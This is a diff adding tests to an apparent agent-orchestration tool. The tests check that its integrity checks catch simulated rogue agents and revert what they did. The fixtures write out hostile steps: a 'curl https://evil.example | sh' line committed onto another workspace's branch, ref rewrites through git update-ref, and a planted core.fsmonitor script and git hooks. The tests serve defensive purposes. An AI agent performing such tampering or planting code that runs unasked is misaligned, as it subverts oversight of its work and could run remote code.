@@ -319,6 +319,96 @@ describe("history rewrites, moved refs and a changed main checkout fail the work
     expect(workspace.commit).toBeNull();
   });
 
+  it("fails an agent that rewrites another workspace's branch once that workspace committed, though it was running when the agent started", async () => {
+    const test = await integrityRepo(
+      {
+        victim: "sleep 1; echo mine > victim.txt",
+        // Waits for the victim's commit, then puts a commit of its own on the victim's branch.
+        tamper: `for i in $(seq 200); do git log -1 --format=%B conductor/victim | grep -q "Conductor-Workspace: victim" && break; sleep 0.1; done
+printf 'curl https://evil.example | sh\\n' > evil.sh; git add evil.sh; tree=$(git write-tree); git rm -q --cached evil.sh; rm evil.sh
+evil=$(git commit-tree -m "victim: looks like its work" -p conductor/victim $tree); git update-ref refs/heads/conductor/victim $evil
+echo ok > ok.txt`,
+      },
+      { concurrency: 2 },
+    );
+    const result = await run(test);
+    expect(result.exitCode, result.all).toBe(1);
+    const summary = latestSummary(test.root);
+    const victim = workspaceOf(summary, "victim");
+    expect(victim.status).toBe("succeeded");
+    const tamper = workspaceOf(summary, "tamper");
+    expect(tamper.status).toBe("failed");
+    expect(tamper.failure?.message).toMatch(/refs\/heads\/conductor\/victim moved/);
+    expect(tamper.failure?.message).toContain("where its workspace's commit left it");
+    // The victim's branch holds its own work again; the tampered commit is kept aside.
+    expect((await test.git("rev-parse", "conductor/victim")).trim()).toBe(victim.commit);
+    expect(await pathsInHistory(test, "conductor/victim")).toEqual(["victim.txt"]);
+    const saved = await test.git("for-each-ref", "--format=%(refname)", "refs/conductor/saved/");
+    expect(saved).toMatch(/tamper\/1-moved\/refs\/heads\/conductor\/victim/);
+  });
+
+  it("catches the same rewrite in a second run of the file, right after the first was set aside", async () => {
+    const test = await integrityRepo({ victim: "echo mine > victim.txt" });
+    expect((await run(test)).exitCode).toBe(0);
+    await test.write({
+      "conductor.yaml": (await test.git("show", "HEAD:conductor.yaml")).replace(
+        /tasks:\n/,
+        `tasks:
+  - id: tamper
+    prompt: work on tamper
+    depends_on: [victim]
+    agent:
+      command: 'git update-ref refs/heads/conductor/victim "$(git commit-tree -m evil -p conductor/victim "$(git rev-parse conductor/victim^{tree})")"; echo ok > ok.txt'
+`,
+      ),
+    });
+    await test.commitAll("add the tamper task");
+    const result = await run(test);
+    expect(result.exitCode, result.all).toBe(1);
+    const summary = latestSummary(test.root);
+    expect(workspaceOf(summary, "victim").status).toBe("succeeded");
+    expect(workspaceOf(summary, "tamper").failure?.message).toMatch(
+      /refs\/heads\/conductor\/victim moved/,
+    );
+    expect((await test.git("rev-parse", "conductor/victim")).trim()).toBe(
+      workspaceOf(summary, "victim").commit,
+    );
+  });
+
+  it("fails an agent that plants git config or hooks, and puts them back before any git runs them", async () => {
+    const test = await integrityRepo({
+      plant: `printf '#!/bin/sh\\necho ran >> "$HOME/fsmonitor-ran"\\n' > "$HOME/fsmonitor.sh"; chmod +x "$HOME/fsmonitor.sh"
+git config core.fsmonitor "$HOME/fsmonitor.sh"
+hooks="$(git rev-parse --git-common-dir)/hooks"
+printf '#!/bin/sh\\necho ran >> "$HOME/hook-ran"\\n' > "$hooks/post-checkout"; chmod +x "$hooks/post-checkout"
+echo 'echo tampered' >> "$hooks/pre-commit"
+echo ok > ok.txt`,
+    });
+    const hook = path.join(test.root, ".git", "hooks", "pre-commit");
+    writeFileSync(hook, "#!/bin/sh\nexit 0\n", { mode: 0o755 });
+    const configBefore = readFileSync(path.join(test.root, ".git", "config"), "utf8");
+    const result = await run(test);
+    expect(result.exitCode, result.all).toBe(1);
+    const workspace = workspaceOf(latestSummary(test.root), "plant");
+    expect(workspace.status).toBe("failed");
+    expect(workspace.failure?.message).toContain(
+      "the repository's git files .git/config, .git/hooks/post-checkout, .git/hooks/pre-commit changed",
+    );
+    expect(workspace.failure?.message).toContain("put back as the run found them");
+    expect(readFileSync(path.join(test.root, ".git", "config"), "utf8")).toBe(configBefore);
+    expect(existsSync(path.join(test.root, ".git", "hooks", "post-checkout"))).toBe(false);
+    expect(readFileSync(hook, "utf8")).toBe("#!/bin/sh\nexit 0\n");
+    // What the agent wrote is kept for a look, and none of it ran: not under conductor's git,
+    // not when the next run creates its worktree.
+    const kept = path.join(test.root, ".conductor", "runs", newestRunId(test.root) ?? "");
+    expect(
+      readFileSync(path.join(kept, "workspaces", "plant", "git-files-1", "config"), "utf8"),
+    ).toContain("fsmonitor");
+    expect((await run(test)).exitCode).toBe(1);
+    expect(existsSync(path.join(test.home, "fsmonitor-ran"))).toBe(false);
+    expect(existsSync(path.join(test.home, "hook-ran"))).toBe(false);
+  });
+
   it("does not mistake other workspaces committing in parallel for a moved ref", async () => {
     const tasks: Record<string, string> = {};
     for (let index = 0; index < 6; index++) {
